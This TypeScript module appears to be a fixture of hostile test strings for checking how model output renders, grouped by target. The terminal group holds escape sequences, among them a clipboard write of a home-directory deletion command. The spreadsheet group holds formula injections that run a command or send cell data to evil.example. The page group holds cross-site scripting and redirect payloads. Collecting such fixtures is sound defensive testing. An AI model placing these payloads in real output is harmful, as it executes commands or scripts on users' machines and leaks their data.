/** What a model may hold to harm whoever reads it, by what it aims at. */

export interface Hostile {
  readonly name: string;
  readonly text: string;
}

const named = (aims: Readonly<Record<string, string>>): readonly Hostile[] =>
  Object.entries(aims).map(([name, text]) => ({ name, text }));

/** Aimed at the terminal, and at what a reader sees in it. */
export const forTerminals = named({
  'a colour': '\u001b[31mred\u001b[0m',
  'a cleared screen': '\u001b[2J\u001b[H',
  'a window title': '\u001b]0;pwned\u0007',
  'a link': '\u001b]8;;https://evil.example\u001b\\ok\u001b]8;;\u001b\\',
  'a link without an end': '\u001b]8;;file:///x\u0007',
  'the clipboard': '\u001b]52;c;cm0gLXJmIH4=\u0007',
  'a title without an end': '\u001b]2;',
  'a device string': '\u001bP+q544e\u001b\\',
  'an application string': '\u001b_Gpwned\u001b\\',
  'a reset': '\u001bc',
  'another screen': '\u001b[?1049h',
  'a report that is typed': '\u001b[6n',
  'a colour in one byte': '\u009b31m',
  'a title in one byte': '\u009d0;x\u009c',
  'a line written over': 'safe\rEVIL',
  'letters taken back': 'ab\b\bXY',
  'a bell and an end of text': '\u0007\u0000\u007f',
  'a vertical tab and a new page': '\u000b\u000c',
  'line ends of other kinds': 'a\r\nb\u0085c\u2028d\u2029e',
  'a tab and a line feed': 'a\tb\nc',
  'words turned round': 'accepts \u202etcejer\u202c',
  'words isolated': '\u2067rejects\u2069 \u2066x\u2068y',
  'marks of direction': 'a\u200eb\u200fc\u061cd',
  'words that are not seen': 'a\u200bb\u2060c\ufeffd\u00ade\u3164f',
  'a message in tags': 'a\u{e0041}\u{e0042}\u{e007f}',
  'half a letter': 'a\ud800b\udc00',
  'a pile of accents': `a${'\u0301'.repeat(200)}`,
  'a pile of vowel signs': `क${'ि'.repeat(150)}`,
  'a word without an end': 'x'.repeat(200),
  'wide words without an end': '交'.repeat(150),
  'emoji of many parts': '👩‍👩‍👧‍👦👍🏽❤️🇩🇪'.repeat(6),
  'writing of many directions': '﷽ سلام שלום ไทยน้ำ क्षि नियोक्ता',
});

/** Aimed at spreadsheets. */
export const forSpreadsheets = named({
  'a command': "=cmd|'/c calc'!A1",
  'a link': '=HYPERLINK("http://evil.example/"&A1,"ok")',
  'a sum': '-1+1',
  'a plus': '+1',
  'a function': '@SUM(1)',
  'a tab before a formula': '\t=1',
  'a return before a formula': '\r=1',
  'a line feed before a formula': '\n=1',
  'a null before a formula': '\u0000=1',
  'the end of a cell': '";=1,"=2',
  'signs of full width': '＝1＋1－1＠x',
  'quotes, commas and line feeds': '"a",\n"b"\n',
});

/** Aimed at pages. */
export const forPages = named({
  'a pipe': 'a|b a\\|b a\\\\|b\\',
  'a script': '<script>alert(1)</script>',
  'an image that fails': '<img src=x onerror=alert(1)>',
  'a fold': '<details><summary>x</summary>',
  'the end of a style': '</style></table>',
  'a link that runs': '[x](javascript:alert(1)) ![y](z)',
  'a definition': '[x]: javascript:y',
  'a heading': '# x',
  'a list': '- x',
  'a number': '1. x',
  'a quote': '> x',
  'a rule': '---',
  'a fence': '```',
  'emphasis without an end': '**x *y _z ~~w `v',
  'a mention and a reference': '@team #123 a@b.example',
  'a formula': '$x$ $$y$$',
  'an address': 'www.evil.example https://evil.example/x',
  'an entity and a comment': '&lt;b&gt; <!-- x',
  'an event in quotes': '" onmouseover="alert(1)" x="',
  'an event in apostrophes': "' onfocus='alert(1)' autofocus tabindex='1",
  'a drawing that runs': '<svg onload=alert(1)><animate onbegin=alert(1)>',
  'the end of a title': '</title><script>alert(1)</script>',
  'the end of data': '</script><script>alert(1)</script><!--<script>',
  'an address that runs': 'javascript:alert(1)',
  'a page in an address': 'data:text/html,<script>alert(1)</script>',
  'a page in a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a template': '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
  'a policy': `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  'another base and another page':
    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;//evil.example">',
  'a form': '<form action="//evil.example"><button formaction="javascript:alert(1)">x</button>',
  'other kinds of text':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(1)&gt;">',
});

export const all: readonly Hostile[] = [...forTerminals, ...forSpreadsheets, ...forPages];

const letters = forTerminals.filter(({ text }) => isLetters(text));

const orders: readonly Hostile[] = [
  { name: 'all orders to terminals', text: joined(forTerminals.filter(({ text }) => !isLetters(text))) },
  { name: 'all for spreadsheets', text: joined(forSpreadsheets) },
  { name: 'all for pages', text: joined(forPages) },
];

/** Many at once, so that each is in every place of a model without a model for each; letters, which take room, stand alone. */
export const bundles: readonly Hostile[] = [...letters, ...orders];

/** The same for whoever does not measure what is shown, so that letters may stand together, too. */
export const mixtures: readonly Hostile[] = [
  { name: 'letters of all kinds', text: joined(letters) },
  ...orders,
];

function isLetters(text: string): boolean {
  return /^[\p{L}\p{M}\p{S} \u200d\ufe0f]+$/u.test(text);
}

function joined(some: readonly Hostile[]): string {
  return some.map(({ text }) => text).join(' ');
}
